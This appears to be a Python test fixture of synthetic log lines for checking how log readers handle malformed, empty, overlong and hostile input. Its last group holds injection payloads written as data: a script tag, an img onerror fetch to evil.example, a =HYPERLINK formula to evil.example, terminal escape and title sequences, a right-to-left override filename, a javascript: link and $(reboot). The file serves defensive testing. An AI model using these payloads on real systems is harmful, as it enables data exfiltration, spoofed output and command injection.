"""Which lines make readers stumble? Malformed, empty and overlong ones, escapes, control characters, markup, formulas."""

from functools import partial

from tests.lab.logs.shape import Follows, Shape

ESCAPE = "\x1b"


def _raw(service: str, share: float, text: str, follows: Follows = "requests", **more: int) -> Shape:
    return Shape(service, "", None, share, text, follows, **more)


_once = partial(Shape, share=0.0, a_day=1)

SHAPES = (
    # Lines that are not in the format.
    _raw("vcp-scanner", 0.4, 'INFO:     {inner}:{port} - "GET /health HTTP/1.1" 200 OK', "steady"),
    _raw(
        "api-gateway",
        0.3,
        f'{ESCAPE}[32mINFO{ESCAPE}[0m:     {{inner}}:{{port}} - "{ESCAPE}[1mGET /metrics HTTP/1.1{ESCAPE}[0m" 200 OK',
        "steady",
    ),
    _raw("frontend", 0.05, " ⚠ Fast Refresh had to perform a full reload after {int:100:9000} ms"),
    _raw("celery-worker", 0.03, "[{stamp}: WARNING/ForkPoolWorker-{int:1:4}] --- Logging error ---", "tasks"),
    _raw("signal-engine", 0.04, '{"timestamp": "{stamp}", "level": "INFO", "logger": "signals", "mess'),
    _raw("signal-engine", 0.03, '{"timestamp": "{stamp}", "level": "INFO", "message": "price "{price}" of {code}"}'),
    _raw("chatbot", 0.02, "/app/chat/model.py:112: UserWarning: flash attention is not available", "steady"),
    _raw("daytrading-scanner", 0.03, "{date} {clock} daytrading INFO {code} armed"),
    _raw("api-gateway", 0.02, ""),
    _raw("celery-beat", 0.02, "celery beat v5.5.3 (immunity) is starting.", "steady"),
    # Empty, long, and longer than a keyword can be.
    Shape("frontend", "next.server", "INFO", 0.05, ""),
    Shape("vcp-scanner", "scanner", "DEBUG", 0.15, "candidates: {code} {code} {code} {code} {code} " * 8 + "({int:40:90})"),
    Shape("chatbot", "chat", "INFO", 0.05, "긴 질문: " + "{asked} " * 24, fields='"user_id": "{user}"'),
    _once("api-gateway", "api.debug", "DEBUG", text="request body {uuid} payload={fill:40000}"),
    _once("signal-engine", "signals", "WARNING", text="features dumped: {fill:34000}", fields='"code": "{code}"'),
    # What a terminal, a page or a spreadsheet would act upon.
    _once("api-gateway", "api.search", "WARNING", text="query '<script>alert({int:1:99})</script>' refused from {ip}"),
    _once("frontend", "browser", "WARNING", text='<img src=x onerror="fetch(`//evil.example/{hex}`)"> in nickname of {user}'),
    _once("api-gateway", "api.search", "WARNING", text=f"query '{ESCAPE}[2J{ESCAPE}[31mall is fine{ESCAPE}[0m' from {{ip}}"),
    _once("chatbot", "chat", "WARNING", text=f"title {ESCAPE}]0;owned\x07 of {{user}} ignored", fields='"user_id": "{user}"'),
    _once("api-gateway", "api.auth", "WARNING", text="login as 'admin\r\x08\x08root' from {ip}"),
    _once("signal-engine", "orders", "INFO", text="memo \u202egnp.exe\u202c of {order}", fields='"code": "{code}"'),
    _once("api-gateway", "api.export", "INFO", text="=HYPERLINK(\"http://evil.example/{hex}\") exported for {user}"),
    _once("frontend", "browser", "WARNING", text="[click](javascript:alert({int:1:9})) | `x` | {user} | **bold** | $(reboot)"),
)  # fmt: skip
